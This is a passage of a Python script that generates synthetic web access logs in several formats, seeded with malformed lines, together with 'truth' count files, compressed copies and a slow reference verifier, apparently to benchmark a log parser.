            self.heads, self.heads_len = _objs([f"{ip} - ".encode() + esc(u.encode()) + b" [" for ip, u in zip(ips, users)])
            self.req, self.req_len = _objs([b'] "' + esc(q) + b'" ' for q in requests])
            self.req_bad = np.zeros(len(requests), dtype=bool)
            stf = lambda c, b: f"{c} {num(b)} ".encode()
            self.st, self.st_len = _objs([stf(c, b) for c, b in st])
            self.inv, self.inv_len = _objs([stf(c, b) for c, b in inv])
            self.ref, self.ref_len = _objs([b'"' + esc(unescape(f)) + b'" ' for f in t["referers"]])
            self.ua, self.ua_len = _objs([b'"' + esc(a) + b'"' for a in uas])
            tf = lambda x: f' rt={x[0]} uct="{x[1] or "-"}" us="{x[2] or "-"}" ua="{x[3] or "-"}"\n'.encode()
            self.tail, self.tail_len = _objs([tf(x) for x in tails])
            self.inv_tail, self.inv_tail_len = _objs([tf(x) for x in inv_tails])
        self.mal, self.mal_len = _objs([m + b"\n" for m in self._malformed(r, ips, requests)])

    def _malformed(self, r: random.Random, ips, requests):
        out = []
        for _ in range(256):
            x = r.random()
            if x < 0.35:
                out.append(r.choice([b"GARBAGE", b"garbage line " + str(r.randrange(10**6)).encode(), b"-",
                                     b"--- log rotated ---", b"\tGARBAGE\t",
                                     b"2024/03/05 13:55:36 [error] 1234#1234: *5 connect() failed (111: Connection "
                                     b"refused) while connecting to upstream, client: 10.0.0.1"]))
            elif x < 0.75:  # a line cut somewhere before its status
                i, q = r.randrange(len(ips)), r.randrange(len(requests))
                if self.json:
                    prefix = (b'{"time":"2024-03-05T13:55:36+00:00","remote_addr":"' + ips[i].encode() + b'","request":"'
                              + esc_nginx_json(requests[q]) + b'","status":')
                else:
                    prefix = (ips[i].encode() + b" - - [05/Mar/2024:13:55:36 +0000] \"" + esc_nginx_default(requests[q])
                              + b'" ')
                out.append(prefix[:r.randint(1, len(prefix))])
            else:  # binary junk: no '\n', '\r' or '"', and not all white space
                out.append(bytes(b for b in r.randbytes(r.randint(8, 200)) if b not in b'\n\r"') + b"\xff")
        for m in out:
            assert m.strip() and b"\n" not in m and b"\r" not in m
        return out

    def render(self, ix):
        tv = ix.ci * TAIL_VARIANTS + (ix.v[0] * TAIL_VARIANTS).astype(np.int64)
        ix.tv = tv
        if self.json:
            hv = (ix.v[1] * len(self.host)).astype(np.int64)
            parts = [ix.ts, self.heads[ix.hi], self.req[ix.ri], self.st[ix.si], self.tail[tv], self.ua[ix.ai],
                     self.host[hv]]
            length = (self.ts_len + self.heads_len[ix.hi] + self.req_len[ix.ri] + self.st_len[ix.si]
                      + self.tail_len[tv] + self.ua_len[ix.ai] + self.host_len[hv])
        else:
            parts = [self.heads[ix.hi], ix.ts, self.req[ix.ri], self.st[ix.si], self.ref[ix.fi], self.ua[ix.ai],
                     self.tail[tv]]
            length = (self.heads_len[ix.hi] + self.ts_len + self.req_len[ix.ri] + self.st_len[ix.si]
                      + self.ref_len[ix.fi] + self.ua_len[ix.ai] + self.tail_len[tv])
        return parts, length

    def set_invalid(self, parts, length, m, ix):
        ii, si, tv = ix.ii[m], ix.si[m], ix.tv[m]
        it = tv % TAIL_VARIANTS
        parts[3][m] = self.inv[ii]
        t_slot = 4 if self.json else 6
        parts[t_slot][m] = self.inv_tail[it]
        length[m] += self.inv_len[ii] - self.st_len[si] + self.inv_tail_len[it] - self.tail_len[tv]


def iso_stamp(sec: int, zone: int) -> bytes:
    """'{"time":"' + $time_iso8601, the start of every nginx_json line."""
    name, off, _ = ZONES[zone]
    tm = time.gmtime(sec + off)
    return (f'{{"time":"{tm.tm_year}-{tm.tm_mon:02d}-{tm.tm_mday:02d}T{tm.tm_hour:02d}:{tm.tm_min:02d}:'
            f'{tm.tm_sec:02d}{name[:3]}:{name[3:]}').encode()


def _utf8(b: bytes) -> bool:
    try:
        b.decode("utf-8")
        return True
    except UnicodeDecodeError:
        return False


class _Ix:
    """Per-batch indices into the pools (one entry per line)."""
    __slots__ = ("hi", "ri", "ci", "si", "fi", "ai", "ii", "ts", "v", "tv")


def generate(path: str, size: int, seed: int, *, layout: str = "combined", compress=(), quiet: bool = False,
             write: bool = True) -> dict:
    """Writes `path` (at most `size` bytes, whole lines) and its truth file; returns the truth.

    write=False counts the truth of an existing `path` without writing it again (it must have the size this
    generates); the log's bytes and mtime stay as they are, so its compressed copies stay valid."""
    if layout not in LAYOUTS:
        raise ValueError(f"unknown layout {layout!r} (one of {', '.join(LAYOUTS)})")
    started = time.perf_counter()
    pools = Pools(seed)
    if layout == "w3c":
        from layout_w3c import W3CLayout  # beside this file; it builds on the helpers here
        lay = W3CLayout(pools, seed)
    else:
        lay = CombinedLayout(pools, seed) if layout == "combined" else NginxLayout(pools, seed, layout)
    rng = np.random.Generator(np.random.PCG64(seed))
    # Extra draws for the nginx layouts come from their own stream: the records stay those of combined.
    rng2 = np.random.Generator(np.random.PCG64([seed, 2])) if layout != "combined" else None
    clock = Clock(pools.t0, lay.stamp)
    codes = np.zeros(len(pools.codes), dtype=np.int64)
    inv_tokens = np.zeros(len(pools.inv), dtype=np.int64)
    bad_codes = np.zeros(len(pools.codes), dtype=np.int64)
    bad_other = 0
    not_json_lines: list[int] = []
    # Records by (code, request) - the path as written follows from the request (combined only) - and by
    # (UTC hour, class): the answers to `questions.py`.
    n_req = len(pools.texts["requests"])
    code_req = np.zeros(len(pools.codes) * n_req, dtype=np.int64)
    code_class = (pools.codes // 100).astype(np.int64)
    hour_class: dict[int, int] = {}
    written = lines = invalid = unparsed = blank = directive_lines = 0
    tmp = path + ".tmp" if write else os.devnull
    with open(tmp, "wb", buffering=0) as f:
        batch_no = 0
        while written < size:
            n = BATCH
            u = rng.random((10, n))
            kind = np.zeros(n, dtype=np.int8)  # 0 ok, 1 invalid status, 2 unparsed, 3 blank
            k = u[9]
            kind[k < BLANK_RATE + UNPARSED_RATE + INVALID_RATE] = 1
            kind[k < BLANK_RATE + UNPARSED_RATE] = 2
            kind[k < BLANK_RATE] = 3
            if batch_no == 0:
                kind[:FIRST_CLEAN_LINES] = 0

            ix = _Ix()
            ix.hi, ix.ri = pick(pools.heads_cdf, u[0]), pick(pools.req_cdf, u[1])
            ix.ci = pick(pools.code_cdf, u[2])
            ix.si = ix.ci * BYTES_VARIANTS + (u[3] * BYTES_VARIANTS).astype(np.int64)
            ix.fi, ix.ai = pick(pools.ref_cdf, u[4]), pick(pools.ua_cdf, u[5])
            ix.ii = (u[8] * len(pools.inv)).astype(np.int64)
            ix.ts = clock.stamps(u[7], pick(pools.zone_cdf, u[6]))
            ix.v = rng2.random((2, n)) if rng2 is not None else None
            parts, length = lay.render(ix)

            m = kind == 1
            if m.any():
                lay.set_invalid(parts, length, m, ix)
            m = kind == 2
            if m.any():
                mi = (u[8][m] * len(lay.mal)).astype(np.int64)
                parts[0][m] = lay.mal[mi]
                length[m] = lay.mal_len[mi]
            m = kind == 3
            if m.any():
                parts[0][m] = b"\n"
                length[m] = 1
            m = kind >= 2
            if m.any():
                for p in parts[1:]:
                    p[m] = b""
            # W3C: a directive block (lines, not records) opens every batch.
            extra = lay.open_batch(parts, length, ix.ts[0]) if hasattr(lay, "open_batch") else 0

            # Keep whole lines only, up to `size` bytes in total.
            ends = np.cumsum(length)
            keep = int(np.searchsorted(ends, size - written, side="right"))
            if keep == 0:
                break
            out = np.empty(lay.n_parts * keep, dtype=object)
            for j, p in enumerate(parts):
                out[j::lay.n_parts] = p[:keep]
            f.write(b"".join(out.tolist()))

            kk = kind[:keep]
            ok = kk == 0
            codes += np.bincount(ix.ci[:keep][ok], minlength=len(codes))
            code_req += np.bincount(ix.ci[:keep][ok] * n_req + ix.ri[:keep][ok], minlength=len(code_req))
            hk, hn = np.unique((clock.seconds[:keep][ok] // 3600) * 10 + code_class[ix.ci[:keep][ok]],
                               return_counts=True)
            for k, c in zip(hk.tolist(), hn.tolist()):
                hour_class[k] = hour_class.get(k, 0) + c
            inv_tokens += np.bincount(ix.ii[:keep][kk == 1], minlength=len(inv_tokens))
            if layout == "nginx_json":
                bad = lay.req_bad[ix.ri[:keep]]
                bad_codes += np.bincount(ix.ci[:keep][(kk == 0) & bad], minlength=len(codes))
                bad_other += int(np.count_nonzero((kk == 1) & bad))
                tok = np.array([bool(NOT_JSON_NUMBER.fullmatch(t)) for t in lay.inv_token])
                nj = np.nonzero((kk == 1) & tok[ix.ii[:keep]])[0]
                not_json_lines += (nj + lines + 1).tolist()
            invalid += int(np.count_nonzero(kk == 1))
            unparsed += int(np.count_nonzero(kk == 2))
            blank += int(np.count_nonzero(kk == 3))
            written += int(ends[keep - 1])
            lines += keep
            directive_lines += extra
            batch_no += 1
            if keep < n:
                break
    actual = os.path.getsize(tmp if write else path)
    if actual != written:
        raise RuntimeError(f"size bookkeeping is off: wrote {actual}, counted {written}" if write else
                           f"{path} has {actual} bytes, this generator writes {written}: generate it again")
    if write:
        os.replace(tmp, path)
    gen_s = time.perf_counter() - started

    tokens: dict[str, int] = {}
    for i, c in enumerate(inv_tokens.tolist()):
        tok = lay.inv_token[i] if layout != "combined" else INVALID_TOKENS[i // INV_VARIANTS]
        if c:
            tokens[tok] = tokens.get(tok, 0) + c
    truth = {
        "format": layout,
        "layout": layout,
        "seed": seed,
        "bytes": written,
        "lines": lines + directive_lines,
        "records": lines - blank,
        "codes": {str(int(c)): int(n) for c, n in sorted(zip(pools.codes, codes)) if n},
        "invalid": invalid,
        "unparsed": unparsed,
        "blank": blank,
        "invalid_tokens": dict(sorted(tokens.items())),
        "size_requested": size,
        "generator_version": GEN_VERSION,
        "truth_version": TRUTH_VERSION,
        # [hour "YYYY-MM-DDTHH:00:00Z" (UTC), class, records], records with a status code only.
        "hour_class": [[time.strftime("%Y-%m-%dT%H:00:00Z", time.gmtime(k // 10 * 3600)), f"{k % 10}xx", n]
                       for k, n in sorted(hour_class.items())],
    }
    if layout == "combined":
        # [code, path as written (None: no request line), records]; the path comes from the written request.
        from questions import request_path  # beside this file
        paths = [request_path(q) for q in pools.texts["requests"]]
        truth["code_path_raw"] = [[int(pools.codes[i // n_req]), paths[i % n_req], int(n)]
                                  for i, n in enumerate(code_req.tolist()) if n]
    if layout in LOG_FORMATS:
        truth["log_format"] = LOG_FORMATS[layout]
    if directive_lines:
        truth["directive_lines"] = directive_lines
    if layout == "nginx_json":
        # Counted in `invalid`: their status token (000, 009) is no JSON number, so the line is not valid JSON,
        # as nginx writes it. A JSON parser may call them unparsed; a token reader sees an invalid status.
        truth["invalid_not_json"] = len(not_json_lines)
        truth["invalid_not_json_lines"] = not_json_lines
        # Records with raw non-UTF-8 bytes (TLS junk in $request): valid status, but not valid UTF-8 JSON.
        truth["non_utf8"] = {"records": int(bad_codes.sum()) + bad_other, "invalid": bad_other,
                             "codes": {str(int(c)): int(n) for c, n in zip(pools.codes, bad_codes) if n}}
    assert truth["records"] == sum(truth["codes"].values()) + invalid + unparsed
    with open(path + ".truth.json.tmp", "w") as f:
        json.dump(truth, f, indent=1)
        f.write("\n")
    os.replace(path + ".truth.json.tmp", path + ".truth.json")
    if not quiet:
        print(f"{path}: {'' if write else 'truth of '}{lines} lines, {written} bytes in {gen_s:.1f}s "
              f"({written / 1e6 / gen_s:.0f} MB/s)", file=sys.stderr)
    if compress:
        compress_copies(path, compress, quiet=quiet)
    return truth


# gz / zst: one member / one frame, as gzip and zstd write them (decoded on one thread, ahead of the parser).
# bgzf.gz / frames.zst: BGZF members (bgzip) and independent frames (pzstd), which logcodes decodes in pieces.
COMPRESSORS = {"gz": ["gzip", "-n", "-c"], "zst": ["zstd", "-q", "-c"], "bgzf.gz": ["bgzip", "-c"],
               "frames.zst": ["pzstd", "-q", "-c", "-p", "2"]}


def compress_copies(path: str, exts, *, quiet: bool = False) -> None:
    """Writes path.gz / path.zst next to the plain file, the compressors running in parallel."""
    started = time.perf_counter()
    procs = []
    for ext in exts:
        dst = f"{path}.{ext}"
        out = open(dst + ".tmp", "wb")
        procs.append((subprocess.Popen(COMPRESSORS[ext] + [path], stdout=out), out, dst))
    failed = []
    for p, out, dst in procs:
        rc = p.wait()
        out.close()
        if rc != 0:
            failed.append(dst)
            os.unlink(dst + ".tmp")
        else:
            os.replace(dst + ".tmp", dst)
    if failed:
        raise RuntimeError(f"compression failed: {', '.join(failed)}")
    if not quiet:
        print(f"compressed {', '.join(exts)} in {time.perf_counter() - started:.1f}s", file=sys.stderr)


_REF_LINE = re.compile(
    rb'(\S+) (\S+) (\S+) \[[^\]\n]+\] "(?:[^"\\\n]|\\[^\n])*" (\S+) (\S+) '
    rb'"(?:[^"\\\n]|\\[^\n])*" "(?:[^"\\\n]|\\[^\n])*"')
_REF_CODE = re.compile(rb"[1-5][0-9][0-9]")


# escape=default fields: no raw quote or backslash, only printable ASCII and \xHH.
_NQ = rb'"((?:[\x20\x21\x23-\x5B\x5D-\x7E]|\\x[0-9A-F]{2})*)"'
_REF_CUSTOM = re.compile(
    rb"(\S+) - (\S+) \[[^\]\n]+\] " + _NQ + rb" (\S+) ([0-9]+) " + _NQ + rb" " + _NQ
    + rb' rt=([0-9]+\.[0-9]{3}) uct="([^"]*)" us="([^"]*)" ua="([^"]*)"')
_REF_JSON_KEYS = ["time", "remote_addr", "request", "status", "body_bytes_sent", "request_time", "upstream_status",
                  "http_user_agent", "host"]
_REF_BAD_NUMBER = re.compile(rb'"status":(0[0-9]+),')


def _ref_status(layout: str, body: bytes):
    """('code', k) / ('invalid', None) / ('unparsed', None) for one non-blank line, read independently."""
    if layout == "combined":
        m = _REF_LINE.fullmatch(body)
        tok = m.group(4) if m else None
    elif layout == "w3c":
        from layout_w3c import N_FIELDS, STATUS_FIELD
        fields = body.split(b" ")
        tok = fields[STATUS_FIELD] if len(fields) == N_FIELDS else None
    elif layout == "nginx_custom":
        m = _REF_CUSTOM.fullmatch(body)
        tok = m.group(4) if m else None
        if m and m.group(10) not in (b"-",) and _REF_CODE.fullmatch(tok):
            # Self-check: the last upstream answer is the logged status (or "-" when the client left).
            last = re.split(rb", | : ", m.group(10))[-1]
            assert last in (tok, b"-"), body
    else:
        # Bytes as they are (raw non-UTF-8 included), the way a lenient reader would take them.
        try:
            obj = json.loads(body.decode("utf-8", "surrogateescape"))
            ok = isinstance(obj, dict) and list(obj) == _REF_JSON_KEYS
            tok = str(obj["status"]).encode() if ok and type(obj["status"]) is int else None
        except ValueError:
            # A status token such as 009 makes the line invalid JSON: nginx wrote it so, it is an invalid status.
            m = _REF_BAD_NUMBER.search(body)
            ok = bool(m) and json.loads(_REF_BAD_NUMBER.sub(b'"status":0,', body, count=1).decode(
                "utf-8", "surrogateescape")) is not None
            tok = m.group(1) if ok else None
    if tok is None:
        return "unparsed", None
    return ("code", tok.decode()) if _REF_CODE.fullmatch(tok) else ("invalid", None)


def verify(path: str) -> bool:
    """Slow reference count of `path` (one regex or json.loads per line) compared with its truth file."""
    with open(path + ".truth.json") as f:
        truth = json.load(f)
    layout = truth.get("layout", "combined")
    codes: dict[str, int] = {}
    lines = records = invalid = unparsed = 0
    with open(path, "rb") as f:
        for line in f:
            lines += 1
            body = line.rstrip(b"\n")
            if not body or (layout == "w3c" and body.startswith(b"#")):  # directives are not records
                continue
            records += 1
            try:
                what, k = _ref_status(layout, body)
            except ValueError:
                what, k = "unparsed", None
            if what == "unparsed":
                unparsed += 1
            elif what == "invalid":
                invalid += 1
            else:
                codes[k] = codes.get(k, 0) + 1
    got = {"lines": lines, "records": records, "invalid": invalid, "unparsed": unparsed,
           "codes": dict(sorted(codes.items(), key=lambda kv: int(kv[0]))),
           "bytes": os.path.getsize(path)}
    bad = [k for k in got if got[k] != truth[k]]
    for k in bad:
        print(f"verify {path}: {k}: truth {truth[k]} != reference {got[k]}", file=sys.stderr)
    if not bad:
        print(f"verify {path}: ok ({records} records)", file=sys.stderr)
    return not bad


def main(argv=None) -> int:
    ap = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    ap.add_argument("out", help="output log path")
    ap.add_argument("--verify", action="store_true",
                    help="do not generate: re-count OUT with a slow reference parser and compare with its truth")
    ap.add_argument("--layout", default="combined", choices=LAYOUTS,
                    help="combined (default), nginx_custom, nginx_json or w3c: the same records in another format")
    ap.add_argument("--size", default="64MiB", help="64MiB, 1GiB, 4GiB, 1GB (decimal) or a byte count")
    ap.add_argument("--seed", type=int, default=1)
    ap.add_argument("--gzip", action="store_true", help="also write OUT.gz (gzip -n -c)")
    ap.add_argument("--zstd", action="store_true", help="also write OUT.zst (zstd -q -c)")
    ap.add_argument("--quiet", action="store_true")
    a = ap.parse_args(argv)
    if a.verify:
        return 0 if verify(a.out) else 1
    compress = [e for e, on in (("gz", a.gzip), ("zst", a.zstd)) if on]
    generate(a.out, parse_size(a.size), a.seed, layout=a.layout, compress=compress, quiet=a.quiet)
    return 0


if __name__ == "__main__":
    sys.exit(main())
